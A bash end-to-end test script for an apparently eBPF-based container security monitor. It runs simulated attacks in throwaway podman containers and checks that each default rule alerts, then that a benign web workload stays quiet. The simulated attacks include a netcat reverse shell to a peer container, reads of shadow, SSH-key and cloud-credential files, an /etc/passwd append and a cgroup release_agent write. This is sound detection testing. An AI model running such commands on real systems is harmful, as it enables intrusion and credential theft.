#!/usr/bin/env bash
# Every default runtime rule on real containers: under `bulkhead watch`, each rule's attack is done in a
# podman container and exactly that rule (set) must alert, attributed to that container; then a web
# service with health checks and a client loop runs RB_QUIET_SECS seconds (default 20 in CI; the
# soak of the issue, 300 s, is bench/rules-quiet.sh) with zero alerts.
# BH_RULES_RECORD=FILE writes the events of every action as `rules test` cases (how
# tests/fixtures/rules/default-tests.yaml's recorded part was made).
set -uo pipefail
BUILD=${BUILD:-build}
export CONTAINERS_CONF=${CONTAINERS_CONF:-$(cd "$(dirname "$0")/../../.." && pwd)/shared/testbed/containers.conf}
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/podman.sh"
QUIET=${RB_QUIET_SECS:-20}
pass=0; fail=0
ok() { pass=$((pass + 1)); echo "PASS rules-default: $1"; }
ko() { fail=$((fail + 1)); echo "FAIL rules-default: $1: $2"; }
skip() { echo "SKIP rules-default: $1"; echo "rules-default: 0 passed, 0 failed (skipped)"; exit 0; }

BH="$(pwd)/$BUILD/bulkhead"
[ -x "$BH" ] || { echo "FAIL rules-default: $BH not built"; echo "rules-default: 0 passed, 1 failed"; exit 1; }
[ "$(id -u)" -eq 0 ] || skip "not root (the eBPF sensor needs CAP_BPF and CAP_PERFMON)"
[ -r /sys/kernel/btf/vmlinux ] || skip "the kernel has no BTF (/sys/kernel/btf/vmlinux)"
command -v podman >/dev/null || skip "podman is not installed"
command -v jq >/dev/null || skip "jq is not installed"
command -v cc >/dev/null || skip "no C compiler for the test's helper program"
[ -x /bin/busybox ] || skip "no /bin/busybox (Debian busybox-static) for the web service image"
[ -d /sys/kernel/tracing/events ] || mount -t tracefs nodev /sys/kernel/tracing 2>/dev/null

T=$(mktemp -d /tmp/bhrules-e2e.XXXXXX)
tag=$$
img=localhost/bhrules-act:$tag webimg=localhost/bhrules-web:$tag
app=bhrules-app-$tag priv=bhrules-priv-$tag peer=bhrules-peer-$tag web=bhrules-web-$tag client=bhrules-client-$tag
P="podman --runtime runc"
svc= wpid=
cleanup() {
	[ -n "$wpid" ] && kill "$wpid" 2>/dev/null && wait "$wpid" 2>/dev/null
	$P rm -f -t 0 "$app" "$priv" "$peer" "$web" "$client" >/dev/null 2>&1
	[ -n "$svc" ] && kill "$svc" 2>/dev/null && wait "$svc" 2>/dev/null
	podman rmi -f "$img" "$webimg" >/dev/null 2>&1
	rm -rf "$T"
}
trap cleanup EXIT

# ---- images, from this machine's files
cc -std=gnu11 -O2 -static -o "$T/act" "$HERE/rules_actions.c" 2>"$T/cc.err" || skip "cannot build a static helper: $(head -2 "$T/cc.err")"
R=$T/root
mkdir -p "$R/bin" "$R/etc" "$R/usr/local/bin" "$R/usr/bin" "$R/opt/bhr" "$R/root/.ssh" "$R/root/.aws" "$R/home/app/.aws" "$R/mnt" "$R/run" "$R/var"
mkdir -m 1777 "$R/tmp"
for b in bash true cat chmod sleep mkdir; do
	src=$(type -P $b) && cp "$src" "$R/bin/" || skip "no $b on this machine"
	for lib in $(ldd "$src" | grep -o '/[^ ]*'); do mkdir -p "$R$(dirname "$lib")" && cp -L "$lib" "$R$lib"; done
done
ln -s bash "$R/bin/sh"
ln -s ../run "$R/var/run"
cp "$T/act" "$R/opt/bhr/act"
cp "$T/act" "$R/usr/bin/nc"                 # the reverse shell's network tool
cp "$R/bin/true" "$R/usr/bin/apt-get"       # a package manager that does nothing
cp "$R/bin/true" "$R/opt/bhr/xmrig"         # a miner by name
cp "$R/bin/true" "$R/opt/bhr/suid-true" && chmod 4755 "$R/opt/bhr/suid-true"
printf 'root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000:app:/home/app:/bin/bash\n' >"$R/etc/passwd"
printf 'root:*:19000:0:99999:7:::\napp:*:19000:0:99999:7:::\n' >"$R/etc/shadow" && chmod 640 "$R/etc/shadow"
echo 'not a key' >"$R/root/.ssh/id_rsa" && chmod 600 "$R/root/.ssh/id_rsa"
printf '[default]\naws_access_key_id = none\n' | tee "$R/root/.aws/credentials" >"$R/home/app/.aws/credentials"
echo 'a note' >"$R/home/app/notes.txt"
chown -R 1000:1000 "$R/home/app"
tar -C "$R" -cf "$T/rootfs.tar" .
podman import -q "$T/rootfs.tar" "$img" >/dev/null 2>"$T/import.err" || skip "podman import failed: $(head -2 "$T/import.err")"
W=$T/web
mkdir -p "$W/bin" "$W/www" "$W/etc" && cp /bin/busybox "$W/bin/" && for a in sh httpd wget sleep; do ln -s busybox "$W/bin/$a"; done
echo '<h1>hello</h1>' >"$W/www/index.html"
echo 'root:x:0:0:root:/:/bin/sh' >"$W/etc/passwd"
tar -C "$W" -cf "$T/web.tar" .
podman import -q "$T/web.tar" "$webimg" >/dev/null 2>"$T/import.err" || skip "podman import failed: $(head -2 "$T/import.err")"

# ---- containers: the peer listens on a mining pool port and a reverse shell's port; app runs with the
# defaults and the engine's socket mounted; priv is --privileged (mount, capabilities, namespaces)
sock="$T/podman.sock"
podman_service "$sock" "$T/service.log" || skip "podman system service did not start: $(head -2 "$T/service.log")"
$P run -d --name "$peer" --network=bridge "$img" /opt/bhr/act serve 3333 9001 >/dev/null 2>"$T/run.err" \
	|| skip "podman cannot run a bridge-networked container here: $(head -2 "$T/run.err")"
peer_ip=$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$peer")
$P run -d --name "$app" --network=bridge -v "$sock:/var/run/docker.sock" "$img" /bin/sleep 3600 >/dev/null 2>>"$T/run.err" || skip "run: $(tail -2 "$T/run.err")"
$P run -d --name "$priv" --privileged --network=none "$img" /bin/sleep 3600 >/dev/null 2>>"$T/run.err" || skip "run: $(tail -2 "$T/run.err")"
[ -n "$peer_ip" ] || skip "no bridge address for the peer container"

"$BH" watch -f json --containers-only --engine-host "unix://$sock" >"$T/events" 2>"$T/watch.err" &
wpid=$!
for _ in $(seq 100); do grep -q '^sensor:' "$T/watch.err" && break; kill -0 $wpid 2>/dev/null || break; sleep 0.1; done
grep -q '^sensor:' "$T/watch.err" || {
	grep -q 'without eBPF support' "$T/watch.err" && skip "$(tail -1 "$T/watch.err")"
	ko "watch started" "$(tail -3 "$T/watch.err")"; echo "rules-default: $pass passed, $fail failed"; exit 1; }
module_hook=yes
grep -q 'init_module .*failed at' "$T/watch.err" && module_hook=no

# mark N: a no-op exec in app whose event closes action N's window of events
nmark=0
mark() {
	nmark=$((nmark + 1))
	$P exec "$app" /opt/bhr/act nop "bhrules-mark-$nmark" >/dev/null 2>&1
	for _ in $(seq 100); do grep -q "\"args\":\"/opt/bhr/act nop bhrules-mark-$nmark\"" "$T/events" && return 0; sleep 0.05; done
	echo "  (mark $nmark not seen)"
}
# the alerts between mark N-1 and mark N: "container<TAB>rule" lines, sorted, unique
window() {
	awk -v a="bhrules-mark-$(($1 - 1))\"" -v b="bhrules-mark-$1\"" \
		'index($0, b) && /"type":"execve"/ {exit} on {print} index($0, a) && /"type":"execve"/ {on = 1}' "$T/events"
}
# only this test's containers count: other tests on the machine may run containers meanwhile
mine() { jq -c --arg t "-$tag" 'select((.event // .).container.name // "" | startswith("bhrules-") and endswith($t))'; }
alerts_in() { window "$1" | mine | jq -r 'select(.alert) | "\(.event.container.name)\t\(.alert.rule)"' | sort -u; }

# BH_RULES_QUIET_ONLY=1 (bench/rules-quiet.sh): only the normal workload below
if [ "${BH_RULES_QUIET_ONLY:-0}" != 1 ]; then
declare -a names expects ctrs
mark
# act NAME CONTAINER "EXPECTED RULE|RULE2" CMD...: run CMD in CONTAINER; exactly the expected rules alert, in it
act() {
	local name=$1 ctr=$2 expect=$3; shift 3
	"$@" >"$T/act.out" 2>&1
	echo "$?" >"$T/act.rc"
	mark
	names[$nmark]=$name; expects[$nmark]=$expect; ctrs[$nmark]=$ctr
	local want got
	want=$(tr '|' '\n' <<<"$expect" | sed "/^$/d; s/^/$ctr\t/" | sort -u)
	got=$(alerts_in "$nmark")
	if [ "$want" = "$got" ]; then ok "$name -> ${expect:-no alert} (in $ctr)"
	else ko "$name" "want [$(tr '\n' ';' <<<"$want")] got [$(tr '\n' ';' <<<"$got")] (exit $(cat "$T/act.rc"): $(head -c 200 "$T/act.out"))"; fi
}
X="$P exec"
act "interactive shell by exec -it" "$app" "Terminal shell in container" \
	bash -c "printf 'exit\n' | script -qec '$X -it $app /bin/bash' /dev/null"
act "bash -i" "$app" "Terminal shell in container" bash -c "printf 'exit\n' | $X -i $app /bin/bash -i"
act "apt-get run" "$app" "Package manager run in container" $X "$app" /usr/bin/apt-get update
act "binary written to /tmp and run" "$app" "Executable not from the image run" \
	$X "$app" /bin/bash -c 'cat /bin/true >/tmp/dl && chmod 755 /tmp/dl && /tmp/dl'
act "binary written to /usr/local/bin and run" "$app" "Executable not from the image run|Write below binary directory" \
	$X "$app" /bin/bash -c 'cat /bin/true >/usr/local/bin/tool && chmod 755 /usr/local/bin/tool && /usr/local/bin/tool'
act "write below /usr/bin" "$app" "Write below binary directory" $X "$app" /opt/bhr/act write /usr/bin/implant
act "write below /etc" "$app" "Write below etc" $X "$app" /bin/bash -c 'echo "x:x:0:0::/:/bin/sh" >>/etc/passwd'
# relative paths: the sensor makes them absolute from the process's working directory (and a
# directory descriptor: bash opens its redirections with openat(AT_FDCWD, ...), mv uses renameat2)
act "write below /etc by a relative path" "$app" "Write below etc" $X "$app" /bin/bash -c 'cd /etc && echo "y:x:0:0::/:/bin/sh" >>passwd'
act "write below /usr/bin by a relative path with .." "$app" "Write below binary directory" \
	$X "$app" /bin/bash -c 'cd /usr/local/bin && echo x >../../bin/implant2'
act "write to /tmp by a relative path" "$app" "" $X "$app" /bin/bash -c 'cd /tmp && echo x >scratch'
act "read /etc/shadow" "$app" "Read of shadow or sudoers file" $X "$app" /bin/cat /etc/shadow
act "read ~/.ssh/id_rsa" "$app" "Read of SSH keys or cloud credentials" $X "$app" /bin/cat /root/.ssh/id_rsa
act "read ~/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" $X "$app" /bin/cat /root/.aws/credentials
act "uid 1000 reads /home/app/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" \
	$X -u 1000 "$app" /bin/cat /home/app/.aws/credentials
act "uid 1000 reads /home/app/notes.txt" "$app" "" $X -u 1000 "$app" /bin/cat /home/app/notes.txt
act "uid 1000 reads credentials from within ~/.aws" "$app" "Read of SSH keys or cloud credentials" \
	$X -u 1000 "$app" /bin/bash -c 'cd /home/app/.aws && cat credentials'
act "uid 1000 reads .aws/credentials from ~" "$app" "Read of SSH keys or cloud credentials" \
	$X -u 1000 "$app" /bin/bash -c 'cd /home/app && cat .aws/credentials'
act "uid 1000 reads notes.txt from ~" "$app" "" $X -u 1000 "$app" /bin/bash -c 'cd /home/app && cat notes.txt'
act "connect to a pool port (3333)" "$app" "Outbound connection to a mining pool port" $X "$app" /opt/bhr/act connect "$peer_ip" 3333
act "miner by name" "$app" "Crypto miner run" $X "$app" /opt/bhr/xmrig --donate-level 1
act "reverse shell (nc -e /bin/sh)" "$app" "Reverse shell" $X "$app" /usr/bin/nc "$peer_ip" 9001 -e /bin/sh
act "shell on a TCP connection, plain command line" "$app" "Reverse shell" $X "$app" /opt/bhr/act revshell "$peer_ip" 9001
act "listen on 31337" "$app" "New listening port" $X "$app" /opt/bhr/act listen 31337
act "setuid root program by uid 1000" "$app" "Setuid program run" $X -u 1000 "$app" /opt/bhr/suid-true
act "setuid(0) by uid 1000 (saved uid 0)" "$app" "Non-root process set uid 0" $X "$app" /opt/bhr/act setuid0
act "refused setuid(0) by uid 1000" "$app" "" $X -u 1000 "$app" /opt/bhr/act setuid0-fail
act "capset raising CAP_SYS_ADMIN" "$priv" "Capability gain in container" $X "$priv" /opt/bhr/act capset
act "engine socket connect" "$app" "Container runtime socket access" $X "$app" /opt/bhr/act unix-connect /var/run/docker.sock
act "memfd exec" "$app" "Fileless execution" $X "$app" /opt/bhr/act memfd
act "ptrace attach" "$app" "Ptrace attach in container" $X "$app" /opt/bhr/act ptrace
act "release_agent write" "$priv" "Cgroup or kernel escape file written" \
	$X "$priv" /bin/bash -c 'mkdir -p /tmp/cgrp && echo /tmp/x >/tmp/cgrp/release_agent'
if [ $module_hook = yes ]; then
	act "module load attempt" "$priv" "Kernel module loaded from container" $X "$priv" /opt/bhr/act module
else
	echo "SKIP rules-default: module load: the sensor's module hooks did not attach ($(grep -m1 'init_module' "$T/watch.err" | sed 's/^ *//'))"
fi
act "mount tmpfs" "$priv" "Mount in container" $X "$priv" /opt/bhr/act mount /mnt
act "unshare(CLONE_NEWUTS)" "$priv" "Namespace change in container" $X "$priv" /opt/bhr/act unshare
act "setns" "$priv" "Namespace change in container" $X "$priv" /opt/bhr/act setns
# near misses: the same tools used as normal programs do
act "capset with the default capabilities" "$app" "" $X "$app" /opt/bhr/act capset
act "listen on 8080" "$app" "" $X "$app" /opt/bhr/act listen 8080
act "connect to https port" "$app" "" $X "$app" /opt/bhr/act connect "$peer_ip" 9001
act "sh -c script" "$app" "" $X "$app" /bin/sh -c 'cat /etc/passwd >/tmp/p'

# every default rule was exercised by an action that expected it
for r in $("$BH" rules list --runtime -f json | jq -r '.rules[].rule' | tr ' ' '_'); do
	r=${r//_/ }
	grep -qF "$r" <<<"$(printf '%s\n' "${expects[@]}")" && continue
	[ "$r" = "Kernel module loaded from container" ] && [ $module_hook = no ] && continue
	ko "coverage" "no action for \"$r\""
done

# --- recorded cases for `rules test` (the events of each action window, with what alerted)
if [ -n "${BH_RULES_RECORD:-}" ]; then
	: >"$BH_RULES_RECORD"
	for i in $(seq 2 "$nmark"); do
		[ -n "${names[$i]:-}" ] || continue
		window "$i" | mine | jq -c --arg n "${names[$i]}" 'select(.alert) | {name: $n, rule: .alert.rule, expect: "hit", event: .event}' >>"$BH_RULES_RECORD"
	done
	echo "  recorded $(wc -l <"$BH_RULES_RECORD") alert cases in $BH_RULES_RECORD"
fi

fi # BH_RULES_QUIET_ONLY

# ---- a normal workload: web service + health checks + a client loop, zero alerts (their start included:
# runc re-executing itself from a descriptor at every container start once alerted as fileless)
q0=$(wc -l <"$T/events")
$P run -d --name "$web" --network=bridge --health-cmd 'wget -q -O /dev/null http://127.0.0.1:8080/' --health-interval 5s \
	"$webimg" /bin/httpd -f -p 8080 -h /www >/dev/null 2>>"$T/run.err" || { ko "web service" "$(tail -2 "$T/run.err")"; }
web_ip=$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$web")
$P run -d --name "$client" --network=bridge "$webimg" /bin/sh -c \
	"while true; do wget -q -O /dev/null http://$web_ip:8080/ || echo fail; sleep 0.5; done" >/dev/null 2>>"$T/run.err"
end=$((SECONDS + QUIET)); hc=0 hcok=0
while [ $SECONDS -lt $end ]; do
	# podman schedules health checks through systemd timers; there is none here, so this loop is the timer
	podman healthcheck run "$web" >/dev/null 2>&1 && hcok=$((hcok + 1)); hc=$((hc + 1))
	sleep 5
done
tail -n +"$((q0 + 1))" "$T/events" | mine >"$T/quiet"
nq=$(jq -c 'select(.alert)' "$T/quiet" | wc -l)
nev=$(jq -c 'select(.alert | not)' "$T/quiet" | wc -l)
nget=$(jq -c "select(.type == \"execve\" and .container.name == \"$client\" and (.args | startswith(\"wget\")))" "$T/quiet" | wc -l)
nacc=$(jq -c "select(.type == \"accept\" and .container.name == \"$web\")" "$T/quiet" | wc -l)
echo "  quiet: ${QUIET}s, $nev events ($nget client requests seen, $nacc accepts, $hcok/$hc health checks passed), $nq alerts"
[ "$nget" -ge $((QUIET)) ] && [ "$nacc" -ge $((QUIET)) ] && [ "$hcok" -ge 1 ] && ok "normal workload was seen by the sensor" \
	|| ko "normal workload" "too few events: $nget client execs, $nacc accepts, $hcok health checks"
[ "$nq" -eq 0 ] && ok "zero alerts in ${QUIET}s of a web service with health checks and a client" \
	|| ko "false alarms" "$nq: $(jq -r 'select(.alert) | "\(.alert.rule): \(.event.container.name) \(.event.comm) \(.event.type) \(.event.path) \(.event.args)"' "$T/quiet" | sort | uniq -c | head -5)"

kill -INT $wpid; wait $wpid; rc=$?; wpid=
[ -n "${BH_RULES_RECORD:-}" ] && cp "$T/events" "$BH_RULES_RECORD.events"
[ $rc -eq 0 ] && ok "watch stopped cleanly" || ko "watch exit status" "$rc: $(tail -2 "$T/watch.err")"
echo "rules-default: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
